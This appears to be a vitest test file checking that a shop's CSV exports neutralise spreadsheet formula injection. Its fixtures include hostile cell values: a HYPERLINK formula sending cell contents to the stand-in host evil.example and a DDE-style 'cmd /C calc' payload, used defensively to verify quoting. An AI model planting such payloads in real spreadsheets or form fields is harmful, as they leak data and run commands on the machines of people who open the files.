// The CSV formula rule (decision 200): the cell rule and its inverse (examples and generated strings), then every CSV
// the shop writes, fetched through the real app with shopper- and staff-typed texts that start like formulas, and a
// guard that fails when a new CSV writer appears that is not in the table or bypasses lib/csv.ts.
import fs from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { createStaff } from '../testing/auth';
import { createTestApp, type TestApp } from '../testing/app';
import { createCategory, createColor, createCountry, createProduct, createSize } from '../testing/factories';
import { neutraliseCsvCell, restoreCsvCell } from './csv';
import { shopToday } from '#shared/dates';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
/** What a spreadsheet could run: a cell starting with a trigger that is not a plain number. */
const formulaLike = (cell: string) => TRIGGERS.some((c) => cell.startsWith(c)) && !/^-?\d+(?:\.\d+)?$/.test(cell);

describe('neutraliseCsvCell / restoreCsvCell', () => {
  it('puts one quote before formula-like text, leaves other text and plain numbers alone', () => {
    expect(neutraliseCsvCell('=1+1')).toBe("'=1+1");
    expect(neutraliseCsvCell('+38344111222')).toBe("'+38344111222");
    expect(neutraliseCsvCell('-2+3+cmd')).toBe("'-2+3+cmd");
    expect(neutraliseCsvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(neutraliseCsvCell('\t=1')).toBe("'\t=1");
    expect(neutraliseCsvCell('\r=1')).toBe("'\r=1");
    expect(neutraliseCsvCell("'=1")).toBe("''=1");
    for (const plain of ['Fustan', "'Fustan", ' =1', '1=1', '-5', '-12.50', '54.90', ''])
      expect(neutraliseCsvCell(plain)).toBe(plain);
    expect(restoreCsvCell("'=1+1")).toBe('=1+1');
    expect(restoreCsvCell("''=1")).toBe("'=1");
    expect(restoreCsvCell("'Fustan")).toBe("'Fustan");
  });

  it('for any text: the written cell is never formula-like, and reading it back gives the text unchanged', () => {
    const texty = fc.oneof(
      fc.string(),
      fc.tuple(fc.constantFrom("'", "''", ...TRIGGERS), fc.string()).map(([a, b]) => a + b),
    );
    fc.assert(
      fc.property(texty, (s) => {
        const written = neutraliseCsvCell(s);
        expect(formulaLike(written)).toBe(false);
        expect(restoreCsvCell(written)).toBe(s);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('every CSV the shop writes', () => {
  let t: TestApp;
  let staff: string;
  const HOSTILE = {
    productName: '=HYPERLINK("http://evil.example/?x="&A2,"Kliko")',
    brand: '@SUM(1+1)',
    address: '=HYPERLINK("http://evil.example/?x="&A2,"Kliko")',
    city: "-2+3+cmd|' /C calc'!A0",
    zipCode: '+10000',
  };

  beforeAll(async () => {
    t = await createTestApp({ publicUrl: 'https://butiku.shop/' });
    staff = (await createStaff(t)).token;
    const countryID = await createCountry(t.db);
    const categoryId = await createCategory(t.db, { name: '+Kategori' });
    const p = await createProduct(t.db, {
      name: HOSTILE.productName,
      brand: HOSTILE.brand,
      categoryId,
      priceCents: 1000,
      variants: [
        {
          sizeId: await createSize(t.db, { name: '-M' }),
          colorId: await createColor(t.db, { name: '\tE kuqe' }),
          stock: 5,
        },
      ],
    });
    const placed = await t.request('/api/orders/checkout', {
      method: 'POST',
      json: {
        customerDetails: {
          email: 'anon@example.com',
          firstName: 'Arta',
          lastName: 'Hoxha',
          phoneNumber: '+38344111222',
          countryID,
          city: HOSTILE.city,
          address: HOSTILE.address,
          zipCode: HOSTILE.zipCode,
          guestId: 'guest_csvwriters1',
        },
        cartItems: [{ productVariantId: p.variantIds[0]!, quantity: 1 }],
        promoCode: null,
      },
    });
    expect(placed.status).toBe(201);
  });

  /** Each writer: the file that answers it, how to fetch it, and hostile texts it must carry (neutralised). */
  const WRITERS = [
    {
      name: 'orders export',
      door: 'src/server/modules/orders/orders.operations.ts',
      get: () => t.request('/api/Orders/export.csv', { token: staff }),
      carries: ['address', 'city', 'zipCode', 'productName'] as const,
    },
    {
      name: 'products export',
      door: 'src/server/modules/catalog/admin/products/products.operations.ts',
      get: () => t.request('/api/Product/export.csv', { token: staff }),
      carries: ['productName', 'brand'] as const,
    },
    {
      name: 'courier hand-off',
      door: 'src/server/modules/orders/orders.operations.ts',
      get: async () => {
        const [o] = await t.db.selectFrom('orders').select('order_id').execute();
        return t.request(`/api/Orders/courier.csv?ids=${o!.order_id}`, { token: staff });
      },
      carries: ['address', 'city', 'zipCode'] as const,
    },
    {
      name: 'sales report (cities)',
      door: 'src/server/modules/reports/reports.operations.ts',
      get: () => {
        // The shop's day, not UTC's: between midnight in the shop and in UTC the two differ.
        const today = shopToday();
        return t.request(`/api/Reports/export.csv?kind=cities&from=${today}&to=${today}`, { token: staff });
      },
      carries: ['city'] as const,
    },
    {
      name: 'product feed',
      door: 'src/server/modules/seo/seo.rest.ts',
      get: () => t.request('/feeds/products.csv'),
      carries: ['brand'] as const,
    },
  ];

  it.each(WRITERS)(
    '$name: no cell a spreadsheet would run; the hostile texts are there, behind one quote',
    async ({ name, get, carries }) => {
      const r = await get();
      expect(r.status).toBe(200);
      expect(r.headers.get('content-type')).toMatch(/^text\/csv/);
      const cells = (parse(await r.text(), { bom: true, relax_column_count: true }) as string[][]).flat();
      expect(cells.filter(formulaLike)).toEqual([]);
      for (const key of carries) expect(cells, key).toContain(`'${HOSTILE[key]}`);
      // The feed's title is "name - colour - size": it starts with the name, so it is neutralised too.
      if (name === 'product feed') expect(cells.some((c) => c.startsWith(`'${HOSTILE.productName}`))).toBe(true);
    },
  );

  it('guard: every server file that answers text/csv is in the table above, and only lib/csv.ts uses csv-stringify', () => {
    const root = path.join(process.cwd(), 'src/server');
    const files = (fs.readdirSync(root, { recursive: true }) as string[])
      .filter((f) => /\.tsx?$/.test(f) && !/\.test\.tsx?$/.test(f) && !f.startsWith(`testing${path.sep}`))
      .map((f) => ({
        file: path.join('src/server', f).split(path.sep).join('/'),
        text: fs.readFileSync(path.join(root, f), 'utf8'),
      }));
    const answeringCsv = files
      .filter((f) => f.text.includes('text/csv'))
      .map((f) => f.file)
      .sort();
    expect(answeringCsv).toEqual([...new Set(WRITERS.map((w) => w.door))].sort());
    const stringifying = files.filter((f) => /from ['"]csv-stringify/.test(f.text)).map((f) => f.file);
    expect(stringifying).toEqual(['src/server/lib/csv.ts']);
  });
});
